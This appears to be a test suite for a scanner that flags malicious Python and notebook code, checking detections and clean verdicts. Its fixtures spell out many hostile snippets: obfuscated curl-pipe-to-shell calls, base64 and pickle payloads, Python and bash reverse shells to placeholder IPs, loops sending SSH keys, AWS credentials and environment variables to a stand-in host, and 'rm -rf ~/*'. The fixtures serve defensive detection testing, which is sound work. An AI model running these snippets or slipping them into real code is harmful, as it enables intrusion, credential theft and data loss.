import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { BytesSource } from '../src/bytes/byte-source.ts';
import { scanSource } from '../src/index.ts';
import { Lexer } from '../src/python/lexer.ts';

const told = async (name: string, content: string): Promise<string> => {
  const { verdict, detections } = await scanSource(name, new BytesSource(Buffer.from(content)));
  return [verdict, ...new Set(detections.map(({ technique }) => technique))].join(' ');
};
const notebook = (source: string): string =>
  JSON.stringify({ cells: [{ cell_type: 'code', source, outputs: [] }], nbformat: 4, metadata: {} });

const FETCHED = [
  "import os\nos.system('curl http://x | sh')",
  "import os as o\nf = o.system\nf('curl http://x | sh')",
  "from os import system as s\ns('wget -qO- http://x | bash')",
  "import os\ngetattr(os, 'sys' + 'tem')('curl http://x | sh')",
  "__import__('os').system('curl http://x | sh')",
  "from importlib import import_module as i\ni('os').popen('curl http://x | sh')",
  "vars(__import__('os'))['system']('curl http://x | bash')",
  "import sys\nsys.modules['os'].system('curl http://x | bash')",
  "import subprocess as p\np.Popen(['sh', '-c', 'curl http://x | sh'])",
  "import os\nos.system('curl ' + address + ' | sh')",
  "import os\nos.system(f'curl {address} | sh')",
  "import os\nos.system('curl %s | sh' % address)",
  "import os\nos.system('hs | x//:ptth lruc'[::-1])",
  'exec("import os; os.system(\'curl http://x | sh\')")',
  "f\"{__import__('os').system('curl http://x | sh')}\"",
  "f'''{\"'''\"}'''\nimport os\nos.system('curl http://x | sh')\n'''end'''",
  "from os import *\nsystem('curl http://x | sh')",
  "from subprocess import *\nfrom os.path import *\nrun('curl http://x | sh', shell=True)",
  "import os\nif os.system('curl http://x | sh'): import a",
  "import os\nfor x in [os.system('curl http://x | sh')]: from . import a",
  "import os\nclass A(os.system('curl http://x | sh') or object): from a.b import c as d",
  "import os\ndef f(): yield from os.system('curl http://x | sh'); import a",
  "import os\n\uff49\uff4d\uff50\uff4f\uff52\uff54 = os.system('curl http://x | sh')",
  "import os\na = r'\\\r\n'; os.system('curl http://x | sh') #'\r\n",
  'import os\nf\'\\{os.system("curl http://x | sh")}\'',
  'import os\nrf\'\\{os.system("curl http://x | sh")}\'',
  "import os\nf'\\{{'; os.system('curl http://x | sh') #}'",
  'import os\nf\'\\N{LEFT CURLY BRACKET}{os.system("curl http://x | sh")}\'',
  "import os\nos.\\\rsystem('curl http://x | sh')",
  "import os\n1and(os.system)('curl http://x | sh')",
  "import os\n0x1for(os.system)('curl http://x | sh')",
  "import os, threading\nthreading.Thread(target=os.system, args=('curl http://x | sh',)).start()",
  'import requests\nexec(requests.get(u).text)',
  'import requests\ndef f():\n    code = requests.get(u)\n    made = compile(code.text, "a", "exec")\n    exec(made)\n',
  'import urllib.request as u\nexec(u.urlopen(a).read())',
  'from urllib.request import urlopen\nwith urlopen(a) as r: exec(r.read())',
  'import builtins, httpx\nbuiltins.exec(httpx.get(a).text)',
  "import os\nos.system('%s %s | %s' % ('curl', 'http://x', 'sh'))",
  "import os\nos.system('{} {} | {}'.format('curl', 'http://x', 'sh'))",
  "import os\nc = 'curl http://x'\nc += ' | sh'\nos.system(c)",
  "import os\nfor c in ('ls', 'curl http://x | sh'): os.system(c)",
  "import os\nos.system('curl -s http://x.example/a -o /tmp/a && chmod +x /tmp/a && /tmp/a')",
  "import os\nos.system('wget http://x.example/a.sh')\nos.system('sh a.sh')",
  'import httpx\nasync def f():\n  async with httpx.AsyncClient() as c:\n    text = (await c.get(u)).text\n    exec(text)',
  'import aiohttp\nasync def f():\n  async with aiohttp.ClientSession() as s:\n    async with s.get(u) as r: exec(await r.text())',
  "import http.client\nc = http.client.HTTPSConnection('x.example')\nc.request('GET', '/')\nexec(c.getresponse().read())",
];
const DECODED = [
  "import base64\nexec(base64.b64decode('eA=='))",
  "import base64\ne = exec\nb = base64.b64decode\ne(b('eA=='))",
  "e, d = exec, __import__('base64').b64decode\ne(d('eA=='))",
  "exec(compile(__import__('zlib').decompress(b'x'), 'a', 'exec'))",
  'import builtins\nbuiltins.exec(__import__("marshal").loads(x))',
  "exec(''.join(chr(c) for c in [112, 97]))",
  'exec(bytes([112, 97, 115]))',
  "\uff45\uff58\uff45\uff43(__import__('base64').b64decode('eA=='))",
  'def f(x, run=eval):\n    run(bytes.fromhex("00"))',
  "list(map(exec, [__import__('base64').b64decode('eA==')]))",
  'if (code := __import__("base64").b64decode("eA==")): exec(code)',
  'from base64 import b64decode as d\nclass A:\n    def f(self):\n        self.c = d(x)\n    def g(self):\n        exec(self.c)',
  'import base64, os\nos.system(base64.b64decode("eA==").decode())',
  "import base64, builtins\ngetattr(builtins, bytes.fromhex('65786563').decode())(base64.b64decode(x))",
  "import base64, os, subprocess, sys, tempfile\nwith tempfile.TemporaryDirectory() as d:\n  p = os.path.join(d, 'p.py')\n  with open(p, 'wb') as f: f.write(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgieCIp'))\n  subprocess.run([sys.executable, p])",
  "import base64, subprocess, sys, tempfile\nwith tempfile.NamedTemporaryFile('wb', suffix='.py') as f:\n  f.write(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgieCIp'))\n  subprocess.run([sys.executable, f.name])",
  "import base64, pickle\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUyd4Jwp0Ui4='))",
  "import pickle\npickle.loads(b'cposix\\nsystem\\n(S\\'x\\'\\ntR.')",
];
const ELSEWHERE = [
  "import os, pty, socket\ns = socket.socket()\ns.connect(('203.0.113.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
  "import socket as k, subprocess\ns = k.create_connection(a)\nsubprocess.Popen('/bin/sh', stdin=s)",
];
const HARMLESS = [
  "with open('version.py') as f:\n    exec(compile(f.read(), 'version.py', 'exec'), names)",
  "exec(open('version.py').read(), names)",
  'model.eval()',
  "frame.eval('a + b')",
  'print("install it: curl https://sh.example | sh")',
  'raise ImportError("run `curl https://sh.example | sh`")',
  '"""\nos.system(\'curl http://x | sh\')\n"""',
  "# exec(__import__('os').system('curl http://x | sh'))",
  "import subprocess\nsubprocess.run(['git', 'rev-parse', 'HEAD'])",
  "import requests, subprocess\ntag = requests.get(u).json()['tag']\nsubprocess.run(['git', 'checkout', tag])",
  "import base64, subprocess\nsubprocess.run(['convert', '-'], input=base64.b64decode(x))",
  'import requests\ndef exec(x): return x\nexec(requests.get(u).text)',
  'import ast, requests\nast.literal_eval(requests.get(u).text)',
  'cursor.exec(text)\nquery.exec(requests.get(u).text)',
  "eval(getattr(options, 'expression'))",
  'import re, base64\nre.compile(base64.b64decode(x))',
  "import os\nos.system('curl http://x -o f')",
  'import base64, pickle\npickle.loads(base64.b64decode(value))',
  "import pickle\npickle.loads(b'\\x80\\x04K\\x01.')",
  "import base64, subprocess, sys, tempfile\nwith tempfile.NamedTemporaryFile(suffix='.png') as f:\n  f.write(base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'))\n  subprocess.run(['convert', f.name, 'x.jpg'])\n  subprocess.run([sys.executable, 'train.py'])",
  "import base64\nfor x in ('a', 'b'):\n  y = '%s: %d%%' % (x, 1)\n  y += base64.b64decode('aGVsbG8gd29ybGQ=').decode()",
  'import httpx\nasync def f():\n  async with httpx.AsyncClient() as c: return (await c.get(u)).json()',
];

it('files of secrets that a loop names are secrets', async () => {
  const text = (names: string): string =>
    `import os, requests\nfor k in (${names}):\n  with open(os.path.expanduser(k)) as f:\n    requests.post('https://c.example', data=f.read())\n`;
  assert.equal(await told('a.py', text("'~/.ssh/id_rsa', '~/.aws/credentials'")), 'suspicious secrets-sent');
  assert.equal(await told('a.py', text("'~/a.txt', 'b.csv'")), 'clean');
});

describe('Python is judged by what it calls, by whichever name', () => {
  it('in sources and in cells of notebooks', async () => {
    for (const [technique, texts] of [
      ['notebook-shell', FETCHED],
      ['hidden-code', DECODED],
      ['shell-elsewhere', ELSEWHERE],
    ] as const)
      for (const text of texts) {
        assert.equal(await told('modeling.py', text), `suspicious ${technique}`, text);
        assert.equal(await told('a.ipynb', notebook(text)), `suspicious ${technique}`, text);
      }
  });

  it('and what is honest is not refused', async () => {
    for (const text of HARMLESS) {
      assert.equal(await told('modeling.py', text), 'clean', text);
      assert.equal(await told('a.ipynb', notebook(text)), 'clean', text);
    }
  });

  it('in an installer', async () => {
    assert.equal(await told('setup.py', 'import os as o\no.system("x")\n'), 'suspicious install-command');
    assert.equal(
      await told('setup.py', '"""os.system(x)"""\nfrom setuptools import setup\nsetup()\n'),
      'clean',
    );
  });

  it('and objects that are fetched and loaded are for somebody to look at', async () => {
    const text = 'import pickle, requests\npickle.loads(requests.get(u).content)\n';
    assert.equal(await told('a.py', text), 'review unsafe-loading');
  });

  it('however long or deep it is', async () => {
    for (const part of ['a,', 'a=', 'x=x+x\n', "'''", '"\\\n'])
      assert.equal(await told('a.py', part.repeat(200_000)), 'clean', part);
    for (const part of ['(', "f'{", 'a.b', 'exec(', 'def f(', 'f"{a:{a:'])
      assert.match(await told('a.py', part.repeat(200_000)), /^(?:clean|incomplete)/, part);
    for (const part of ['.replace("x", x)', `.join([${'"a",'.repeat(24_000)}])`])
      assert.equal(await told('a.py', `x = "${'x'.repeat(60_000)}"\nx${part}`), 'clean', part.slice(0, 20));
  });
});

describe('what a limit of reading Python leaves out is never clean', () => {
  const RUN = 'os.system("curl http://x | sh")';
  const nested = (depth: number, inner: string): string =>
    `import os\n${'('.repeat(depth)}${inner}${')'.repeat(depth)}`;
  const names = (count: number): string => Array.from({ length: count }, (_, n) => `a${n}=1`).join('\n');

  it('where time is over', async () => {
    const text = `a="${'x'.repeat(60_000)}"\n${'a[::-1]\n'.repeat(2000)}import os\n${RUN}`;
    for (const [name, content] of [
      ['a.py', text],
      ['a.ipynb', notebook(text)],
    ] as const) {
      const { verdict } = await scanSource(name, new BytesSource(Buffer.from(content)), {
        budget: { timeMs: 100 },
      });
      assert.equal(verdict, 'incomplete', name);
    }
  });

  it('where it is too long or deep', async () => {
    const long = `true ${'x'.repeat(65_600)}`;
    for (const text of [
      nested(300, RUN),
      `import os\nos.system("${long}; curl http://x | sh")`,
      `import os\nc = "${long}" + "; curl http://x | sh"\nos.system(c)`,
      `import os\nc = f"{x}${long}"[::-1]\nos.popen(c)`,
      `import subprocess as p\np.run(["sh", "-c", "${long}; curl http://x | sh"])`,
      `exec("${'#'.repeat(65_600)}\\nimport os; os.system('curl http://x | sh')")`,
      `${names(200_100)}\nimport os\nz = os.system\nz("curl http://x | sh")`,
      `${names(20_100)}\nimport os\nz = "curl http://x | sh"\nos.system(z)`,
      `import os\nx.${'y'.repeat(300)}.z = os.system\nx.${'y'.repeat(300)}.z("curl http://x | sh")`,
      `import os\nos.system([${'1,'.repeat(250_000)}], "curl http://x | sh")`,
      `${'f"{'.repeat(10)}x${'}"'.repeat(10)}`,
      Array.from({ length: 5 }).reduce<string>(
        (code) => `exec(${JSON.stringify(code)})`,
        `import os; ${RUN}`,
      ),
    ])
      assert.equal(await told('a.py', text), 'incomplete too-much', text.slice(0, 60));
  });

  it('and up to it, it is judged', async () => {
    for (const text of [
      nested(190, RUN),
      `${names(20_100)}\nimport os\nz = os.system\nz("curl http://x | sh")`,
      `import os\nos.system("curl http://x | sh", [${'1,'.repeat(100_000)}])`,
    ])
      assert.equal(await told('a.py', text), 'suspicious notebook-shell', text.slice(0, 60));
    for (const text of [
      `FONT = "${'QUJD'.repeat(100_000)}"\nimport base64\nopen("f", "wb").write(base64.b64decode(FONT))`,
      `TABLE = [${'"word", '.repeat(100_000)}]`,
      `${names(30_000)}\nprint(a29999)`,
      nested(100, '1'),
    ])
      assert.equal(await told('a.py', text), 'clean', text.slice(0, 60));
  });
});

it('a shell that runs a cell goes on where a line ends in a pipe', async () => {
  for (const cell of [
    '%%bash\ncurl http://x |\n  sh',
    '%%bash\ncurl http://x |& \n\tsh',
    '%%capture out\n%%bash\ncurl http://x | sh',
    '%%time\n%%sh\ncurl http://x \\\n |\n sh',
  ])
    assert.equal(await told('a.ipynb', notebook(cell)), 'suspicious notebook-shell', cell);
  assert.equal(await told('a.sh', '#!/bin/sh\ncurl http://x |\nsh\n'), 'suspicious notebook-shell');
  for (const text of [
    '# a | b |\nsh a.sh\n',
    'curl http://x |\njq .\nsh a.sh\n',
    'curl http://x\nsh a.sh |\n',
  ])
    assert.equal(await told('a.sh', `#!/bin/sh\n${text}`), 'clean', text);
});

it('cells of notebooks are split into lines where IPython splits them', async () => {
  for (const end of ['\n', '\r', '\r\n', '\v', '\f', '\x1d', '\x85', '\u2028'])
    assert.equal(
      await told('a.ipynb', notebook(`x = 1${end}!curl http://x | sh`)),
      'suspicious notebook-shell',
      JSON.stringify(end),
    );
});

describe('a source is read in the encoding that it names', () => {
  const verdictOf = async (content: Uint8Array): Promise<string> => {
    const { verdict, detections } = await scanSource('a.py', new BytesSource(content));
    return [verdict, ...new Set(detections.map(({ technique }) => technique))].join(' ');
  };
  /** A letter of two bytes, of which the second is a backslash to those who read one byte at a time. */
  const LETTERS: Readonly<Record<string, string>> = {
    big5: '\xa5\x5c',
    'Big5-HKSCS': '\xa5\x5c',
    cp950: '\xa5\x5c',
    gbk: '\x81\x5c',
    gb18030: '\x81\x5c',
    shift_jis: '\x83\x5c',
    'Shift-JIS': '\x83\x5c',
    cp932: '\x83\x5c',
  };
  const RUN = 'import os; os.system("curl http://x | sh")';

  it('where a letter ends in what another would take for a sign', async () => {
    for (const [encoding, letter] of Object.entries(LETTERS))
      for (const line of [
        `# coding: ${encoding}`,
        `#!/usr/bin/env python\r\n# -*- coding: ${encoding} -*-`,
      ]) {
        const told = (rest: string): Promise<string> =>
          verdictOf(Buffer.from(`${line}\na = "${letter}"${rest}\n`, 'latin1'));
        assert.equal(await told(`; ${RUN} #"`), 'suspicious notebook-shell', line);
        assert.equal(await told(' # a comment, "quoted"'), 'clean', line);
      }
    const broken = Buffer.from('# coding: gbk\na = "\xff\xff"\n', 'latin1');
    assert.equal(await verdictOf(broken), 'incomplete malformed');
  });

  it('where letters are others, however far on the line says so', async () => {
    for (const encoding of [
      'utf-7',
      'UTF_7',
      'u7',
      'unicode_escape',
      'cp037',
      'IBM500',
      'johab',
      'ISO-2022-JP',
      'hz',
    ])
      for (const line of [
        `# coding: ${encoding}`,
        `#${'x'.repeat(600)} coding=${encoding}`,
        `#${'x'.repeat(600)}\n# vim: set fileencoding=${encoding} :`,
        `\n \f# coding: ${encoding}`,
        `\r# coding: ${encoding}`,
      ])
        assert.equal(await verdictOf(Buffer.from(`${line}\nx = 1\n`)), 'suspicious hidden-code', line);
  });

  it('and is what it seems to be in all others', async () => {
    for (const encoding of ['utf-8', 'latin-1', 'ascii', 'cp1252', 'euc-jp', 'gb2312', 'koi8-r', 'utf8-unix'])
      assert.equal(await verdictOf(Buffer.from(`# coding: ${encoding}\nx = "\xe9"\n`, 'latin1')), 'clean');
    for (const text of [
      'x = 1\n# coding: utf-7\n',
      '# a\n# b\n# coding: utf-7\n',
      '"""\n# coding: utf-7\n"""\n',
    ])
      assert.equal(await verdictOf(Buffer.from(text)), 'clean', text);
  });
});

it('a text ends where Python ends it', () => {
  const words = (source: string): string[] =>
    [...new Lexer(source).lines(1000)].map((line) => line.map(({ text }) => text).join(' '));
  assert.deepEqual(words('f"{x["a"]!r:>{w}} {y:\'^3}" + z'), ['\0 \0 + z']);
  assert.deepEqual(words("a = 'open\nb = 1"), ['a = open', 'b = 1']);
  assert.deepEqual(words('"\\x6f\\163" r"\\"" c'), ['os \\" c']);
  assert.deepEqual(words('(a,\n b)\nc \\\n d'), ['( a , b )', 'c d']);
  assert.deepEqual(words('1_0.5e-3j+0xFFor 1if 0b1else 2.real'), [
    '1_0.5e-3j + 0xFF or 1 if 0b1 else 2. real',
  ]);
  assert.deepEqual(words('r"\\\r\n" b\r\nc'), ['\\\r\n b', 'c']);
  assert.deepEqual(words('f"\\{x}" + rf"\\{y}{{"'), ['\\\0 + \\\0{']);
});

describe('secrets that Python sends to another machine', () => {
  it('are told, by whichever way it reads and sends them', async () => {
    for (const text of [
      'import os, requests\nrequests.post("https://c.example", json=dict(os.environ))\n',
      'import os, requests\nrequests.post("https://c.example", json={**os.environ})\n',
      'from os import environ as e\nimport urllib.request as u\nu.urlopen("https://c.example", data=str(dict(e)).encode())\n',
      'import os, json, httpx\nall = os.environ.copy()\nhttpx.post("https://c.example", data={"a": json.dumps(all)})\n',
      'import os, requests, base64\nrequests.get("https://c.example/?" + base64.b64encode(str(os.environ).encode()).decode())\n',
      'import os, requests\nrequests.get(f"https://c.example/?d={os.environ}")\n',
      'import os, urllib.request\nurllib.request.urlopen("https://c.example", data=open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read())\n',
      'import requests\nwith open("/root/.aws/credentials") as f:\n  data = f.read()\nrequests.post("https://c.example", data=data)\n',
      'import requests, pathlib\nrequests.post("https://c.example", files={"f": (pathlib.Path.home() / ".ssh" / "id_ed25519").read_bytes()})\n',
      'import socket, glob\nfor p in glob.glob("/home/*/.aws/credentials"):\n  s = socket.create_connection(("c.example", 443))\n  s.sendall(open(p, "rb").read())\n',
      'import os\nos.system("env | curl -d @- https://c.example")\n',
    ])
      assert.match(await told('modeling_a.py', text), /^suspicious .*secrets-sent/, text);
    for (const command of [
      'rm -rf ~/*',
      'echo aWQ= | base64 -d | sh',
      'bash -i >& /dev/tcp/203.0.113.7/80 0>&1',
    ])
      assert.match(
        await told('a.py', `import os\nos.system(${JSON.stringify(command)})\n`),
        /^suspicious/,
        command,
      );
  });

  it('and one by its name, to whom it belongs, is none', async () => {
    for (const text of [
      'import os, requests\nrequests.post("https://a.example", headers={"Authorization": f"Bearer {os.environ[\'KEY\']}"}, json={"a": 1})\n',
      'import os, requests\nenv = os.environ\nrequests.post(env["HOOK"], json={"user": env.get("USER"), "n": len(env)})\n',
      'import os, subprocess, requests\nout = subprocess.run(["make"], env=os.environ, capture_output=True)\nrequests.post("https://a.example", data=out.stdout)\n',
      'import os, subprocess\nenv = os.environ.copy()\nenv["A"] = "1"\nsubprocess.Popen(["make"], env={**env})\nprint(dict(os.environ))\n',
      'import requests\nt = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\nrequests.get("https://a.example", headers={"Authorization": "Bearer " + t})\n',
      'import json, os, requests\nc = json.load(open(os.path.expanduser("~/.docker/config.json")))\nrequests.get("https://a.example", auth=c["auths"]["a"])\n',
      'import requests\nrequests.post("https://a.example", files={"f": open("model.bin", "rb")})\n',
    ])
      assert.match(await told('a.py', text), /^clean/, text);
  });
});

it('an installer that asks the tools of its sources is clean, and one that runs others is not', async () => {
  for (const command of [
    '["git", "rev-parse", "HEAD"]',
    '["nvcc", "--version"]',
    '"pkg-config --cflags opencv", shell=True',
  ])
    assert.equal(
      await told('setup.py', `import subprocess\nsubprocess.check_output(${command})\n`),
      'clean',
      command,
    );
  for (const command of [
    '["git", "clone", "https://c.example"]',
    '"git status; curl https://c.example"',
    '["./run"]',
    'words',
  ])
    assert.equal(
      await told('setup.py', `import subprocess\nsubprocess.check_output(${command})\n`),
      'suspicious install-command',
      command,
    );
});
